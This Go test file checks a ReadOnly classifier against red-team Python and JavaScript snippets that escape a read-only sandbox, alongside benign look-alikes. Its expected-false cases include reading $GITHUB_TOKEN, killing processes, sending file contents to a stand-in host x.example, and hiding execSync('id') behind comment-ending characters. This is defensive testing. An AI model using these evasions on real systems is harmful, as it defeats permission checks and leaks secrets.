package interp

import "testing"

// TestReadOnlyRed15a: the fifteenth red team's ways out of the closed
// world, each a program ReadOnly took for one that only reads, and the
// look-alikes of everyday use that stay in it. os.path's members reached
// the modules posixpath imports (os.path.os.remove, os.path.genericpath.os)
// and expandvars the environment; from os import * put os.open over open;
// a format text's fields reach attributes (__globals__ of a function); a
// fullwidth name is Python's exec; a name the code sets after using it is
// the language's global when used (help, Node's http); a tagged template
// calls its tag; fs.readFileSync's options may open the file to write; a
// line comment ends at a carriage return (and in JS at U+2028, U+2029).
func TestReadOnlyRed15a(t *testing.T) {
	for _, c := range []struct {
		lang Lang
		code string
		want bool
	}{
		{Python, `import os; os.path.os.kill(1, 9)`, false},
		{Python, `import os; os.path.genericpath.os.kill(1, 9)`, false},
		{Python, `import os; print(os.path.os.environ)`, false},
		{Python, `import os.path as p; p.os.unlink("a")`, false},
		{Python, `from os.path import os as o; o.rename("a", "b")`, false},
		{Python, `from os import path; print(path.os.environ)`, false},
		{Python, `import os; print(os.path.expandvars("$GITHUB_TOKEN"))`, false},
		{Python, `from os import *; open("report.txt", flags=513)`, false},
		{Python, `from os.path import *; print(exists("a"))`, false},
		{Python, `import os; print("{0.__globals__[os].environ}".format(os.path.join))`, false},
		{Python, `import os; print("{0._" "_globals_" "_}".format(os.path.join))`, false},
		{Python, `import os; print(str.format("{0.__globals__}", os.path.join))`, false},
		{Python, `import os; t = "{0.__globals__}"; print(t.format(os.path.join))`, false},
		{Python, `list(map(ｅｘｅｃ, ["print(1)"])); ｅｘｅｃ = 0`, false},
		{Python, `list(map(help, ["helper"])); help = 0`, false},
		{Python, `[0 for help in [0]]; list(map(help, ["helper"]))`, false},
		{JS, `const fs = require("fs"); http.get("http://x.example/?d=" + fs.readFileSync("a", "utf8")); var http`, false},
		{JS, `[{method: "POST"}].reduce(fetch, "https://x.example/"); var fetch`, false},
		{JS, "fetch`https://x.example/`; var fetch", false},
		{JS, "const t = (s) => s; console.log(t`x`)", false},
		{JS, `[1].map(http => 0); http.get("http://x.example/")`, false},
		{JS, `const fs = require("fs"); fs.readFileSync("a", {["fl" + "ag"]: "w"})`, false},
		{JS, `const fs = require("fs"); fs.readFileSync("a", JSON.parse("{\"flag\":\"w\"}"))`, false},
		{JS, `const fs = require("fs"); [JSON.parse("{}")].reduce(fs.readFileSync, "a")`, false},
		{JS, `require("fs").readFileSync(...["a", "w"])`, false},
		{Python, "x = 1 # c\rimport subprocess; subprocess.run(\"id\")", false},
		{JS, "x = 1 // c\rrequire(\"child_process\").execSync(\"id\")", false},
		{JS, "x = 1 // c\u2028require(\"child_process\").execSync(\"id\")", false},
		{JS, "x = 1 // c\u2029require(\"child_process\").execSync(\"id\")", false},

		{Python, `import os; print(os.path.join(os.path.expanduser("~"), "notes.txt"))`, true},
		{Python, `import os.path; print(os.path.splitext("a.tar.gz")[1], os.path.getsize("setup.py"))`, true},
		{Python, `from os import path; print(path.exists("a"))`, true},
		{Python, `from os.path import join, basename as b; print(b(join("a", "b")))`, true},
		{Python, `print("{} of {}: {:.2f}".format(1, 2, 0.5))`, true},
		{Python, `print("{0[name]}".format({"name": "x"}))`, true},
		{Python, `x = [1, 2]; print(sum(x))`, true},
		{Python, "x = [1, 2]\r\nprint(sum(x))  # total\r\n", true},
		{JS, "const a = [1, 2] // two\r\nconsole.log(a.length)", true},
		{JS, "console.log(`${1 + 1} items`)", true},
		{JS, `const fs = require("fs"); console.log(fs.readFileSync("package.json", "utf8").length)`, true},
		{JS, `console.log(require("fs").readFileSync("a").length)`, true},
		{JS, `const fs = require("fs"); const buf = fs.readFileSync("a"); console.log(buf.length)`, true},
		{JS, `const fs = require("fs"); const files = fs.readdirSync("."); console.log(files.map((f) => f.toUpperCase()))`, true},
	} {
		if got := ReadOnly(c.lang, c.code); got != c.want {
			t.Errorf("ReadOnly(%v, %q) = %v, want %v", c.lang, c.code, got, c.want)
		}
	}
}
